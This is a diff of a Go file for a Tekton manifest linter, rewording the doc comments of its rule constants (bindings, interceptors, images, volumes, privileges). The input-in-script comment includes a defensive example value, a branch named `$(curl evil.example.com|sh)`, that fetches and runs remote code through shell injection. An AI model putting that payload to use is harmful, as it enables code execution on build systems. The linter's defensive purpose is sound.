@@ -3,10 +3,10 @@
 package check
 
 // AnnotationInvalid is annotation-invalid: an annotation has a value that
-// Tekton refuses.
+// Tekton rejects.
 //
-// The annotation `tekton.dev/payload-validation` of an EventListener says
-// whether the body of an event must be JSON. It is "true" or "false", in
+// The annotation `tekton.dev/payload-validation` of an EventListener controls
+// whether the body of an event must be JSON. Its value is "true" or "false", in
 // quotes.
 //
 // Severity: error. Topic: triggers.
@@ -20,83 +20,88 @@ const AnnotationInvalid = "annotation-invalid"
 // Severity: error. Topic: objects.
 const BackendInvalid = "backend-invalid"
 
-// BindingExternal is binding-external: a TriggerBinding is not among the
-// objects.
+// BindingExternal is binding-external: the TriggerBinding is not among the
+// checked files.
 //
-// A trigger refers to a TriggerBinding that is not in the set. Whether the
-// cluster has it cannot be known offline. If it is not there, no event starts
-// anything, and only the log of the listener says so.
+// A trigger refers to a TriggerBinding that is not among the checked files.
+// Whether it exists in the cluster cannot be known offline. If it does not,
+// events start nothing, and only the log of the EventListener shows why.
 //
-// Nothing is to be done if it is made by other means: list it in the profile
-// under `exists`. In a set that is complete, this is the error binding-unknown.
+// If it is created by other means, list it in the profile under `exists`. If
+// the profile is complete, the finding is the error binding-unknown.
 //
 // Severity: note. Topic: triggers.
 const BindingExternal = "binding-external"
 
-// BindingInvalid is binding-invalid: a workspace is bound to no volume, to
-// several, or to half of one.
+// BindingInvalid is binding-invalid: a workspace binding has no volume source,
+// several, or an incomplete one.
 //
-// A run binds each workspace to exactly one kind of volume, with the name of
-// its claim, Secret or ConfigMap; Tekton refuses anything else. A
-// volumeClaimTemplate needs accessModes and a request of storage: without them
-// it is admitted, and no claim can be made (`CouldntCreateWorkspacePVC`).
+// A run binds each workspace to exactly one volume source, with the name of its
+// PersistentVolumeClaim, Secret or ConfigMap. Tekton rejects anything else. A
+// volumeClaimTemplate needs accessModes and a storage request. Without them
+// Tekton admits the run, but cannot create the PersistentVolumeClaim, and the
+// run fails (`CouldntCreateWorkspacePVC`).
 //
 // Severity: error. Topic: volumes.
 const BindingInvalid = "binding-invalid"
 
-// BindingObject is binding-object: an object or a list stands in a string.
+// BindingObject is binding-object: an object or a list is substituted into a
+// string.
 //
-// Tekton writes the JSON of what a binding takes into the JSON of the template.
-// The quotes of an object, or of a list of texts, end the string around it: the
-// result is no JSON, and nothing is created. A path with a wildcard, a slice or
-// a filter gives a list unless it finds just one value, which is a warning.
+// Tekton substitutes the JSON of a binding's value into the JSON of the
+// template. The quotes of an object, or of a list of strings, end the string
+// around it: the result is not valid JSON, and nothing is created. A path with
+// a wildcard, a slice or a filter gives a list unless it finds exactly one
+// value, which is a warning.
 //
-// Take a single value, join a list in an overlay of a CEL interceptor, or make
-// an object a text with `marshalJSON()`. The annotation
-// `triggers.tekton.dev/old-escape-quotes` of a template makes Tekton escape
-// them.
+// Use a single value, join a list in an overlay of a CEL interceptor, or make
+// an object a string with `marshalJSON()`. The annotation
+// `triggers.tekton.dev/old-escape-quotes` of a template makes Tekton escape the
+// quotes.
 //
 // Severity: error. Topic: triggers.
 const BindingObject = "binding-object"
 
-// BindingPath is binding-path: a binding takes something that no event has.
+// BindingPath is binding-path: a binding reads a path that no event has.
 //
-// What stands in `$(...)` of a binding is a JSONPath into the event, which has
-// body, header, extensions and context.eventID. Tekton takes any text for it,
-// and reads it when an event arrives: a path that finds nothing fails the
-// event, unless the template has a default for the param, which then holds for
-// every event. What is never closed stays as it is. Names of headers are
-// brought into their canonical form only behind `header.`.
+// The text in `$(...)` of a binding is a JSONPath into the event, which has
+// body, header, extensions and context.eventID. Tekton admits any text, and
+// evaluates it when an event arrives. A path that finds nothing fails the
+// event, unless the template has a default for the param, which then applies to
+// every event. Text after a `$(` that is never closed is passed on unreplaced.
+// Tekton brings header names into their canonical form only after `header.`.
 //
 // Severity: error. Topic: triggers.
 const BindingPath = "binding-path"
 
 // BindingUnknown is binding-unknown: a trigger refers to a TriggerBinding that
-// is not there.
+// does not exist.
 //
-// A trigger refers to a TriggerBinding that is not among the objects, which are
-// all there is. It is looked for in the namespace of the trigger. The listener
-// looks it up when an event arrives: the event has been answered with 202 by
-// then, so that only the log of the listener says why nothing starts. Where the
-// set is not complete, it is a warning if one letter leads to a name of the
-// set, and otherwise the note binding-external.
+// A trigger refers to a TriggerBinding that is not among the checked files.
+// Tekton looks for it in the namespace of the trigger when an event arrives.
+// The EventListener has already answered with 202 by then, so only its log
+// shows why nothing starts.
+//
+// The finding is an error if the profile is complete, a warning if the name is
+// one letter away from that of a checked TriggerBinding, and otherwise the note
+// binding-external.
 //
 // Correct the name, or add the object.
 //
 // Severity: error. Topic: triggers.
 const BindingUnknown = "binding-unknown"
 
-// CELInvalid is cel-invalid: an expression of a CEL interceptor does not
+// CELInvalid is cel-invalid: a CEL expression of an interceptor does not
 // compile.
 //
-// Tekton compiles filters and overlays when an event arrives, and refuses the
-// event if one is faulty: a syntax error, an unknown name or function, a filter
-// that is no condition, a value that cannot be written as JSON. The sender is
-// answered with 202 all the same, and only the log of Tekton's interceptors
-// says why: that of the listener does not, unless it is at the level debug.
+// Tekton compiles filters and overlays when an event arrives, and rejects the
+// event if one has an error: a syntax error, an unknown name or function, a
+// filter that is not a condition, or a value that cannot be written as JSON.
+// The sender still gets 202, and only the log of Tekton's interceptors shows
+// why. The log of the EventListener shows it only at level debug.
 //
-// An expression sees body, header, extensions and requestURL, without `$(` and
-// `)`.
+// An expression can use body, header, extensions and requestURL, without `$(`
+// and `)`.
 //
 // Severity: error. Topic: triggers.
 const CELInvalid = "cel-invalid"
@@ -185,13 +190,13 @@ const DocumentLimit = "document-limit"
 // Severity: error. Topic: params.
 const EnumInvalid = "enum-invalid"
 
-// EventUnknown is event-unknown: an event type is none that is known.
+// EventUnknown is event-unknown: the interceptor does not know this event type.
 //
-// The interceptor lets events of the listed types pass, as the header of the
-// system spells them: `pull_request` of GitHub, `Push Hook` of GitLab,
-// `repo:push` and `pr:opened` of Bitbucket. A type that no event has lets
-// nothing pass. Only types that look misspelt are reported: systems get new
-// ones.
+// The interceptor accepts events of the listed types, spelled as in the header
+// that the system sends: `pull_request` of GitHub, `Push Hook` of GitLab,
+// `repo:push` and `pr:opened` of Bitbucket. A type that does not exist matches
+// no event. Only types that look misspelled are reported, because systems add
+// new ones.
 //
 // Severity: warning. Topic: triggers.
 const EventUnknown = "event-unknown"
@@ -199,26 +204,27 @@ const EventUnknown = "event-unknown"
 // ExitUnreachable is exit-unreachable: a script tests $? where it can only be
 // 0.
 //
-// Tekton puts `set -e` before a script without a shebang, and many scripts
-// write it themselves: where a command fails, the script ends. A line behind it
-// that reads `$?` sees only success, so that what it does for a failure never
-// happens, such as to write a status for another task.
+// Tekton puts `set -e` before a script without a shebang, and many scripts set
+// it themselves: the script ends at the first command that fails. A later line
+// that tests `$?` sees only success, so its failure branch never runs. If that
+// branch writes a status for another task, for example, the status is never
+// written.
 //
-// Write `if ! COMMAND; then ...; fi`, or `COMMAND || status=$?`.
+// Use `if ! COMMAND; then ...; fi`, or `COMMAND || status=$?`.
 //
 // Severity: warning. Topic: practice.
 const ExitUnreachable = "exit-unreachable"
 
 // ExtensionUnknown is extension-unknown: nothing sets the extension that is
-// taken.
+// read.
 //
-// Extensions are what the interceptors before add to an event: the keys of the
-// overlays of CEL interceptors, `changed_files` of github with addChangedFiles,
-// the requestedFields of slack, and whatever interceptors of your own add. A
-// binding or an expression that takes another one fails every event. Overlays
-// of one interceptor do not see each other. Where the template has a default
-// for the param, that holds for every event, which is a warning. Nothing is
-// said of a Trigger that no listener among the objects takes.
+// Earlier interceptors add extensions to an event: the keys of the overlays of
+// CEL interceptors, `changed_files` of github with addChangedFiles, the
+// requestedFields of slack, and whatever your own interceptors add. A binding
+// or an expression that reads any other extension fails every event. Overlays
+// of one interceptor do not see each other. If the template has a default for
+// the param, the default applies to every event, which is a warning. A Trigger
+// that no EventListener of the checked files uses is not reported.
 //
 // Severity: error. Topic: triggers.
 const ExtensionUnknown = "extension-unknown"
@@ -281,16 +287,18 @@ const FieldUnknown = "field-unknown"
 // Severity: error. Topic: order.
 const FinallyMisuse = "finally-misuse"
 
-// HostAccess is host-access: a pod uses files or the network of its node.
+// HostAccess is host-access: a pod uses the files or the network of its node.
 //
-// A volume with hostPath is a folder of whatever node the pod lands on: other
-// runs find other files there, and whoever changes what the step runs can read
-// and change the node's own. The socket of the node's container engine makes
-// every step that mounts it root on the node. A pod with hostNetwork reaches
-// what listens on localhost there, and no NetworkPolicy holds for it.
+// A hostPath volume is a directory of whichever node the pod lands on. Other
+// runs find other files there, and anyone who can change what the step runs can
+// read and change the node's own files. The socket of the node's container
+// engine makes every step that mounts it root on the node. A pod with
+// hostNetwork reaches everything that listens on localhost of the node, and no
+// NetworkPolicy applies to it.
 //
-// Use workspaces, and build images without the node's engine. Where it must be,
-// say why in the annotation `check.tekwright.dev/host-access` of the object.
+// Use workspaces, and build images without the node's container engine. If the
+// access is needed, explain why in the annotation
+// `check.tekwright.dev/host-access` of the object.
 //
 // Severity: warning. Topic: practice.
 const HostAccess = "host-access"
@@ -305,33 +313,34 @@ const HostAccess = "host-access"
 // Severity: error. Topic: names.
 const HostInvalid = "host-invalid"
 
-// ImageFloating is image-floating: an image has no tag, or one that moves.
+// ImageFloating is image-floating: an image has no tag, or a moving tag.
 //
-// An image without a tag means `latest`. That tag, and others that name no
-// version (`stable`, `dind`, `main`), are given to another image every now and
-// then: the same pipeline does something else tomorrow, on some nodes sooner
-// than on others, and nothing says so. The defaults of params that make an
-// image count as well.
+// An image without a tag means `latest`. That tag, and others that do not
+// identify a version (`stable`, `dind`, `main`), move to another image every
+// now and then. The same pipeline then does something else without notice, on
+// some nodes sooner than on others. Param defaults that set an image are
+// checked as well.
 //
-// Name a version, or better a digest: `golang:1.26.0@sha256:...`.
+// Use a version, or better a digest: `golang:1.26.0@sha256:...`.
 //
 // Severity: warning. Topic: practice.
 const ImageFloating = "image-floating"
 
-// ImageInvalid is image-invalid: an image reference cannot be one.
+// ImageInvalid is image-invalid: an image reference is malformed.
 //
-// Tekton admits it, and the kubelet cannot pull it (`InvalidImageName`): the
-// run fails, or waits for its timeout. Names of images are in lower case and
-// hold no blanks; a tag has at most 128 letters, digits, `_`, `.` and `-`; a
-// digest is `sha256:` and 64 hexadecimal digits.
+// Tekton admits the object, but the kubelet cannot pull the image
+// (`InvalidImageName`): the run fails, or waits until it times out. An image
+// name is in lower case and contains no spaces. A tag has at most 128 letters,
+// digits, `_`, `.` and `-`. A digest is `sha256:` followed by 64 hexadecimal
+// digits.
 //
 // Severity: error. Topic: steps.
 const ImageInvalid = "image-invalid"
 
 // ImageMissing is image-missing: a step, sidecar or StepAction has no image.
 //
-// A step runs in a container, and a container needs an image. It may stand in
-// the step, in stepTemplate, or in the StepAction of its ref.
+// A step runs in a container, and a container needs an image. Set it in the
+// step, in stepTemplate, or in the StepAction that the step refers to.
 //
 // Severity: error. Topic: steps.
 const ImageMissing = "image-missing"
@@ -367,68 +376,71 @@ const IngressClass = "ingress-class"
 // Severity: error. Topic: objects.
 const IngressInvalid = "ingress-invalid"
 
-// InputInScript is input-in-script: a script holds the text of a param or a
-// result.
+// InputInScript is input-in-script: a param or result is substituted into a
+// script.
 //
-// Tekton pastes the value into the script before the shell reads it. Whoever
-// sets the param, be it through an event, writes a part of the script: a branch
-// called `$(curl evil.example.com|sh)` is run. In a StepAction Tekton refuses
-// it, so that it is an error there.
+// Tekton substitutes the value before the shell reads the script. Anyone who
+// sets the param, for example through an event, writes part of the script: a
+// branch named `$(curl evil.example.com|sh)` is executed. Tekton rejects this
+// in a StepAction, so it is an error there.
 //
-// Pass the value through env, and quote the variable.
+// Pass the value through env, and quote the shell variable.
 //
 // Severity: warning. Topic: practice.
 const InputInScript = "input-in-script"
 
-// InterceptorExternal is interceptor-external: an interceptor is not among the
-// objects.
+// InterceptorExternal is interceptor-external: the interceptor is not among the
+// checked files.
 //
-// A trigger asks an interceptor that is not in the set, and is none of those
-// that come with Tekton Triggers: bitbucket, cel, github, gitlab and slack.
-// Whether the cluster has it cannot be known offline. If it is not there, no
-// event starts anything, and only the log of the listener says so.
+// A trigger refers to an interceptor that is not among the checked files, and
+// does not come with Tekton Triggers as bitbucket, cel, github, gitlab and
+// slack do. Whether it exists in the cluster cannot be known offline. If it
+// does not, events start nothing, and only the log of the EventListener shows
+// why.
 //
-// Nothing is to be done if it is made by other means: list it in the profile
-// under `exists`. In a set that is complete, this is the error
-// interceptor-unknown.
+// If it is created by other means, list it in the profile under `exists`. If
+// the profile is complete, the finding is the error interceptor-unknown.
 //
 // Severity: note. Topic: triggers.
 const InterceptorExternal = "interceptor-external"
 
-// InterceptorInvalid is interceptor-invalid: an interceptor is none.
+// InterceptorInvalid is interceptor-invalid: an interceptor entry is incomplete
+// or malformed.
 //
-// An interceptor is a ref to one by name, or a webhook whose objectRef names a
-// Service of apiVersion v1. The names of headers are in their canonical form,
-// as X-Team, and have values. Tekton refuses others. With both ref and webhook,
-// ref is ignored, which is a warning.
+// An interceptor entry is either a ref to an interceptor by name, or a webhook
+// whose objectRef refers to a Service of apiVersion v1. Header names are in
+// canonical form, such as X-Team, and have values. Tekton rejects anything
+// else. With both ref and webhook, ref is ignored, which is a warning.
 //
 // Severity: error. Topic: triggers.
 const InterceptorInvalid = "interceptor-invalid"
 
-// InterceptorParam is interceptor-param: a param of an interceptor does not
-// fit.
+// InterceptorParam is interceptor-param: an interceptor param is unknown,
+// incomplete or of the wrong type.
 //
 // The interceptors that come with Tekton Triggers read their params when an
-// event arrives. A value of the wrong type, a Secret without a key, or an empty
-// list of event types refuses every event, which only the log of Tekton's
-// interceptors says. A param that the interceptor does not know is ignored,
-// which is a warning: without `secretRef` nothing is verified, without
-// `eventTypes` nothing is filtered. The github interceptor skips `githubOwners`
-// if `addChangedFiles` is on as well, a warning too.
+// event arrives. With a value of the wrong type, a Secret without a key, or an
+// empty list of event types they reject every event, and only the log of
+// Tekton's interceptors shows it. A param that the interceptor does not know is
+// ignored, which is a warning: without `secretRef` nothing is verified, and
+// without `eventTypes` nothing is filtered. The github interceptor skips
+// `githubOwners` if `addChangedFiles` is enabled as well, which is also a
+// warning.
 //
 // Severity: error. Topic: triggers.
 const InterceptorParam = "interceptor-param"
 
-// InterceptorUnknown is interceptor-unknown: a trigger asks an interceptor that
-// is not there.
+// InterceptorUnknown is interceptor-unknown: a trigger refers to an interceptor
+// that does not exist.
 //
-// A trigger asks an interceptor that is neither among the objects, which are
-// all there is, nor one of those that come with Tekton Triggers: bitbucket,
-// cel, github, gitlab and slack. Every event is refused, and only the log of
-// the listener says so. A NamespacedInterceptor is looked for in the namespace
-// of the listener.
+// A trigger refers to an interceptor that is not among the checked files, and
+// does not come with Tekton Triggers as bitbucket, cel, github, gitlab and
+// slack do. Every event is rejected, and only the log of the EventListener
+// shows it. Tekton looks for a NamespacedInterceptor in the namespace of the
+// EventListener.
 //
-// Where the set is not complete, a name that looks misspelt is a warning.
+// The finding is an error if the profile is complete, a warning if the name
+// looks misspelled, and otherwise the note interceptor-external.
 //
 // Severity: error. Topic: triggers.
 const InterceptorUnknown = "interceptor-unknown"
@@ -491,51 +503,52 @@ const KindUnknown = "kind-unknown"
 // Severity: error. Topic: names.
 const LabelInvalid = "label-invalid"
 
-// ListenerField is listener-field: an EventListener sets what it may not.
+// ListenerField is listener-field: an EventListener sets a field that Tekton
+// does not allow.
 //
-// Tekton makes the pod and the Service of a listener, and lets only some of
-// their fields be set: of the pod its account, tolerations, nodeSelector,
-// affinity, topologySpreadConstraints, imagePullSecrets and securityContext, of
-// its one container resources, env, probes and securityContext. A variable
-// takes its value from a Secret; TLS_CERT and TLS_KEY come together. Others are
-// refused.
+// Tekton creates the pod and the Service of an EventListener, and allows only
+// some of their fields. In the pod these are serviceAccountName, tolerations,
+// nodeSelector, affinity, topologySpreadConstraints, imagePullSecrets and
+// securityContext, in its one container resources, env, probes and
+// securityContext. An environment variable must get its value from a Secret;
+// TLS_CERT and TLS_KEY must be set together. Tekton rejects anything else.
 //
 // Severity: error. Topic: triggers.
 const ListenerField = "listener-field"
 
 // ListenerIdle is listener-idle: an EventListener selects no Trigger.
 //
-// The labels or namespaces that an EventListener selects are those of no
-// Trigger of the set, which is complete. It answers every event, and starts
-// nothing.
+// The profile is complete, and the label or namespace selectors of the
+// EventListener match no Trigger of the checked files. It answers every event,
+// and starts nothing.
 //
-// Give the Triggers the labels, or mend the selector.
+// Give the Triggers matching labels, or correct the selector.
 //
 // Severity: warning. Topic: triggers.
 const ListenerIdle = "listener-idle"
 
-// ListenerUnfiltered is listener-unfiltered: every event starts something.
+// ListenerUnfiltered is listener-unfiltered: a trigger accepts every event.
 //
-// The interceptors of a trigger let every event pass: each comment, label and
-// deleted branch of the repository starts what it creates, and fails where the
-// event has other fields.
+// The interceptors of the trigger let every event pass. Each comment, label and
+// deleted branch of the repository creates the objects of its template, or
+// fails because that event has other fields.
 //
 // Set `eventTypes`, or a filter in a CEL interceptor.
 //
 // Severity: warning. Topic: practice.
 const ListenerUnfiltered = "listener-unfiltered"
 
-// ListenerUnsigned is listener-unsigned: nothing checks who sends the events.
+// ListenerUnsigned is listener-unsigned: nothing verifies who sends the events.
 //
-// A listener is reached by whoever reaches its Service, or its Ingress. Without
-// an interceptor that checks a signature or a token, all of them start what the
-// trigger creates, with the rights of its account, on input of their choice.
-// The slack interceptor looks whether there is a signature, and does not check
-// it.
+// Anyone who can reach the Service or the Ingress of an EventListener can send
+// it events. Without an interceptor that checks a signature or a token, they
+// can create the objects of the trigger, with the permissions of its service
+// account and with input of their choice. The slack interceptor only checks
+// that there is a signature; it does not verify it.
 //
 // Set `secretRef` in the github, gitlab or bitbucket interceptor, compare a
-// header with `compareSecret` in a CEL filter, or use an interceptor of your
-// own. Where it must be, say why in the annotation
+// header with `compareSecret` in a CEL filter, or use your own interceptor. If
+// unverified events are intended, explain why in the annotation
 // `check.tekwright.dev/listener-unsigned`.
 //
 // Severity: warning. Topic: practice.
@@ -610,37 +623,38 @@ const MatrixSize = "matrix-size"
 const MatrixUnordered = "matrix-unordered"
 
 // MountDuplicate is mount-duplicate: two volumes or workspaces are mounted at
-// one path.
+// the same path.
 //
-// A path holds one volume. Tekton refuses a workspace at a path that is taken,
-// and the API server a container with two mounts at one path.
+// Only one volume can be mounted at a path. Tekton rejects a workspace at a
+// path that is already in use, and the API server rejects a container with two
+// mounts at the same path.
 //
 // Mount one of them elsewhere.
 //
 // Severity: error. Topic: volumes.
 const MountDuplicate = "mount-duplicate"
 
-// MountInvalid is mount-invalid: a volume or workspace is mounted where none
-// can be.
+// MountInvalid is mount-invalid: the path or the volume name of a mount is not
+// valid.
 //
-// Below /tekton/ Tekton keeps its own files, and refuses a mount there. A
-// StepAction cannot know the volumes of a Task: what it mounts has to be named
-// by a param, and by nothing else.
+// Tekton keeps its own files below /tekton/, and rejects a mount there. A
+// StepAction does not know the volumes of a Task, so the name in its
+// volumeMounts must be exactly one param variable.
 //
-// A relative path is a warning: Kubernetes puts a slash before it, but the path
-// that Tekton gives to the steps of a workspace stays relative.
+// A relative path is a warning. Kubernetes puts a slash in front of it, but the
+// workspace path that Tekton passes to the steps stays relative.
 //
 // Severity: error. Topic: volumes.
 const MountInvalid = "mount-invalid"
 
-// NameFixed is name-fixed: every event creates an object of the same name.
+// NameFixed is name-fixed: the template creates the same object name for every
+// event; use generateName.
 //
 // Tekton Triggers creates the objects of a template, and never updates them:
-// the second event fails, as the name is taken. For kinds that somebody may
-// remove in between, this is a warning.
+// the second event fails because the name already exists. For kinds whose
+// objects may be deleted in between, this is a warning.
 //
-// Set `generateName`, or take a part of the name from the event or from
-// `$(uid)`.
+// Set `generateName`, or use part of the event or `$(uid)` in the name.
 //
 // Severity: error. Topic: triggers.
 const NameFixed = "name-fixed"
@@ -656,15 +670,14 @@ const NameFixed = "name-fixed"
 // Severity: error. Topic: names.
 const NameInvalid = "name-invalid"
 
-// NamespaceExternal is namespace-external: a Namespace is not among the
-// objects.
+// NamespaceExternal is namespace-external: the Namespace is not among the
+// checked files.
 //
-// An EventListener looks for Triggers in a namespace that the set does not
-// have. Whether the cluster has it cannot be known offline. Without it, the
-// listener finds nothing there.
+// An EventListener looks for Triggers in a Namespace that is not among the
+// checked files. Whether it exists in the cluster cannot be known offline. If
+// it does not, the EventListener finds no Triggers there.
 //
-// Nothing is to be done if it is made by other means: list it in the profile
-// under `exists`.
+// If it is created by other means, list it in the profile under `exists`.
 //
 // Severity: note. Topic: triggers.
 const NamespaceExternal = "namespace-external"
@@ -678,13 +691,14 @@ const NamespaceExternal = "namespace-external"
 // Severity: warning. Topic: names.
 const NamespaceIgnored = "namespace-ignored"
 
-// NamespaceUnknown is namespace-unknown: a namespace is not there.
+// NamespaceUnknown is namespace-unknown: a Namespace does not exist.
 //
-// An EventListener looks for Triggers in a namespace in which nothing of the
-// set lives, and the set is complete. It finds none there. Or an object is in a
-// namespace that a complete set does not make, though it makes others: the API
-// server refuses the object, which is an error. Those of Kubernetes and Tekton
-// themselves (`default`, `kube-system`, `tekton-...`) are always there.
+// The profile is complete, and an EventListener looks for Triggers in a
+// namespace without any object of the checked files: it finds none there. Or
+// the checked files create Namespaces, but not the one that an object is in:
+// the API server rejects the object, which is an error. The namespaces of
+// Kubernetes and Tekton themselves (`default`, `kube-system`, `tekton-...`)
+// always exist.
 //
 // Correct the name, or add the Namespace.
 //
@@ -711,11 +725,11 @@ const ObjectDuplicate = "object-duplicate"
 // Severity: error. Topic: documents.
 const ObjectUntyped = "object-untyped"
 
-// OnErrorInvalid is onerror-invalid: onError has a value that does not exist,
-// or has no effect.
+// OnErrorInvalid is onerror-invalid: onError has an unknown value, or conflicts
+// with retries.
 //
-// onError is `continue` or `stopAndFail`. Tekton refuses other values, and a
-// task of a pipeline that has both retries and onError continue.
+// onError is `continue` or `stopAndFail`. Tekton rejects any other value, and a
+// pipeline task that sets both retries and `onError: continue`.
 //
 // Severity: error. Topic: steps.
 const OnErrorInvalid = "onerror-invalid"
@@ -732,11 +746,11 @@ const OrderSkippable = "order-skippable"
 
 // OverlayInvalid is overlay-invalid: an overlay has a key that cannot be set.
 //
-// The value of an overlay is set at its key below extensions, in which dots
-// part names. With an empty key every event is refused. One with `*`, `?`, `#`,
-// `@` or `|`, which ask for something in a path, sets nothing, and nobody says
-// so: what reads the extension fails. Of two overlays with one key the last
-// holds, which is a warning.
+// Tekton stores the value of an overlay under its key in extensions, where dots
+// separate names. An empty key makes the interceptor reject every event. A key
+// with `*`, `?`, `#`, `@` or `|`, which are query operators in a path, silently
+// sets nothing: whatever reads the extension fails. Of two overlays with the
+// same key the last one is used, which is a warning.
 //
 // Severity: error. Topic: triggers.
 const OverlayInvalid = "overlay-invalid"
@@ -854,16 +868,15 @@ const PathDuplicate = "path-duplicate"
 // Severity: error. Topic: objects.
 const PathInvalid = "path-invalid"
 
-// PathLiteral is path-literal: the path of a result or a workspace is spelled
-// out.
+// PathLiteral is path-literal: a result or workspace path is hard-coded.
 //
-// `/tekton/results/NAME` and `/workspace/NAME` are where Tekton puts results
-// and workspaces by default. Written out, they break without a word when the
-// result or the workspace gets another name, or a mountPath: the result is
-// lost, and the step works in an empty folder. A workingDir below `/workspace`
-// that is no workspace is made anew for each step, and empty.
+// `/tekton/results/NAME` and `/workspace/NAME` are the default paths of results
+// and workspaces. A hard-coded path breaks silently when the result or the
+// workspace is renamed or gets a mountPath: the result is lost, and the step
+// works in an empty directory. A workingDir below `/workspace` that is not a
+// workspace is created for each step, and empty.
 //
-// Write `$(results.NAME.path)` and `$(workspaces.NAME.path)`.
+// Use `$(results.NAME.path)` and `$(workspaces.NAME.path)`.
 //
 // Severity: warning. Topic: practice.
 const PathLiteral = "path-literal"
@@ -913,16 +926,17 @@ const PolicyInvalid = "policy-invalid"
 // Severity: error. Topic: objects.
 const PortUnknown = "port-unknown"
 
-// Privileged is privileged: a container may do as it likes on its node.
+// Privileged is privileged: a container runs privileged, or with capabilities
+// that control its node.
 //
 // A privileged container, or one with capabilities such as `SYS_ADMIN`, can
-// take over its node: its files, its other pods, and their Secrets. Whoever can
-// change what the step runs (a Dockerfile, a build script, a dependency) can do
-// that. The Pod Security level baseline refuses such pods.
+// take over its node: its files, its other pods, and their Secrets. So can
+// anyone who controls what the step runs (a Dockerfile, a build script, a
+// dependency). The Pod Security level baseline forbids such pods.
 //
-// Build images with BuildKit rootless, Kaniko or Buildah. Where it must be, say
-// why in the annotation `check.tekwright.dev/privileged` of the object. That a
-// container runs as root is not reported: most images do.
+// Build images with rootless BuildKit, Kaniko or Buildah. If the privileges are
+// needed, explain why in the annotation `check.tekwright.dev/privileged` of the
+// object. A container that runs as root is not reported: most images do.
 //
 // Severity: warning. Topic: practice.
 const Privileged = "privileged"
@@ -940,13 +954,15 @@ const Privileged = "privileged"
 // Severity: note. Topic: objects.
 const PVCExternal = "pvc-external"
 
-// PVCInvalid is pvc-invalid: a claim lacks what the API server asks for.
+// PVCInvalid is pvc-invalid: a PersistentVolumeClaim has missing or invalid
+// fields.
 //
-// A PersistentVolumeClaim has to list accessModes that exist, and to request an
-// amount of storage. The API server refuses others; of a claim template of a
-// run, Tekton reports `CouldntCreateWorkspacePVC`, and the run fails.
+// A PersistentVolumeClaim must list valid accessModes and request an amount of
+// storage; the API server rejects any other. If the volumeClaimTemplate of a
+// run is not valid, Tekton reports `CouldntCreateWorkspacePVC`, and the run
+// fails.
 //
-// Write the modes in full, and a quantity: 1Gi.
+// Write the access modes in full, and a quantity such as 1Gi.
 //
 // Severity: error. Topic: volumes.
 const PVCInvalid = "pvc-invalid"
@@ -964,15 +980,15 @@ const PVCInvalid = "pvc-invalid"
 // Severity: error. Topic: objects.
 const PVCUnknown = "pvc-unknown"
 
-// PVCUnusable is pvc-unusable: a workspace is bound to a claim that it cannot
-// use.
+// PVCUnusable is pvc-unusable: a workspace is bound to a PersistentVolumeClaim
+// that it cannot use.
 //
-// A claim that can only be read (its one access mode is `ReadOnlyMany`) is
-// bound without `readOnly: true`, so that steps which write fail. A claim of
-// volume mode `Block` is a device, which no pod can mount as a folder; that is
-// an error.
+// A PersistentVolumeClaim whose only access mode is `ReadOnlyMany` is bound
+// without `readOnly: true`, so steps that write to the workspace fail. A
+// PersistentVolumeClaim with volume mode `Block` is a block device, which
+// cannot be mounted as a directory; that is an error.
 //
-// Bind it read-only, or ask for another access mode.
+// Bind it read-only, or request another access mode.
 //
 // Severity: warning. Topic: volumes.
 const PVCUnusable = "pvc-unusable"
@@ -1046,15 +1062,15 @@ const ReferenceInvalid = "reference-invalid"
 // RequestsMissing is requests-missing: no step of a Task requests cpu or
 // memory.
 //
-// The scheduler puts a pod where its requests fit. One without any fits
-// everywhere: builds pile up on one node, slow each other down, and are the
-// first to be killed when its memory runs out.
+// The scheduler places a pod where its requests fit. A pod without requests
+// fits everywhere: builds pile up on one node, slow each other down, and are
+// the first to be killed when the node runs out of memory.
 //
 // Request what the largest step needs, in the step or in stepTemplate; limits
-// count as requests. Tekton adds the requests of the steps up, since a pod's
-// containers all exist at once. A run can set others for its own
-// (`taskRunSpecs`, `stepSpecs`, `computeResources`). If a LimitRange of the
-// namespace gives defaults, switch this rule off in the profile.
+// count as requests. Tekton adds up the requests of the steps, because all
+// containers of a pod exist at the same time. A run can set its own
+// (`taskRunSpecs`, `stepSpecs`, `computeResources`). If a LimitRange sets
+// defaults for the namespace, turn this rule off in the profile.
 //
 // Severity: warning. Topic: practice.
 const RequestsMissing = "requests-missing"
@@ -1113,15 +1129,15 @@ const ResourceRemoved = "resource-removed"
 // Severity: warning. Topic: rbac.
 const ResourceUnknown = "resource-unknown"
 
-// ResourcesInvalid is resources-invalid: a container asks for resources that it
-// cannot have.
+// ResourcesInvalid is resources-invalid: the resource requests or limits of a
+// container are not valid.
 //
-// Kubernetes gives a container no less than it requests and no more than its
-// limit. Tekton fails the run (`TaskRunValidationFailed`). A resource is cpu,
-// memory, ephemeral-storage, huge pages, or has a domain in its name; the API
-// server refuses a pod that asks for another. Cpu is counted in cores (`500m`
-// is half a core), the others in bytes (`512Mi`): no node has `512Mi` of cpu,
-// and `500m` of memory, less than a byte, is a warning.
+// A container cannot request more than its limit: Tekton fails the run
+// (`TaskRunValidationFailed`). A resource is cpu, memory, ephemeral-storage,
+// huge pages, or has a domain in its name; the API server rejects a pod with
+// any other. CPU is counted in cores (`500m` is half a core), the others in
+// bytes (`512Mi`). No node has `512Mi` of CPU. `500m` of memory is less than a
+// byte, which is a warning.
 //
 // Raise the limit or lower the request, and correct names and units.
 //
@@ -1149,16 +1165,17 @@ const ResultDuplicate = "result-duplicate"
 // Severity: error. Topic: results.
 const ResultNested = "result-nested"
 
-// ResultSize is result-size: results are larger than they can be.
+// ResultSize is result-size: results exceed the size of the termination
+// message.
 //
-// Results leave a container in its termination message. Kubernetes keeps 4096
-// bytes of that, and 12288 of all containers of a pod together. With more the
-// task fails ("Termination message is above max allowed size 4096"). Reported
-// are commands whose output has no bound and goes to a result, and more results
-// than their names alone leave room for.
+// Tekton reads results from the termination message of a container. Kubernetes
+// keeps 4096 bytes of it, and 12288 bytes for all containers of a pod together.
+// With more, the task fails ("Termination message is above max allowed size
+// 4096"). The rule reports commands with unbounded output that write to a
+// result, and results whose names alone do not fit.
 //
-// Write what is large to a file of a workspace, or let the cluster take results
-// from a sidecar (`results-from: sidecar-logs`), and switch this rule off.
+// Write large data to a file in a workspace. Or let the cluster read results
+// from a sidecar (`results-from: sidecar-logs`), and turn this rule off.
 //
 // Severity: warning. Topic: practice.
 const ResultSize = "result-size"
@@ -1300,25 +1317,26 @@ const RolerefInvalid = "roleref-invalid"
 // Severity: error. Topic: rbac.
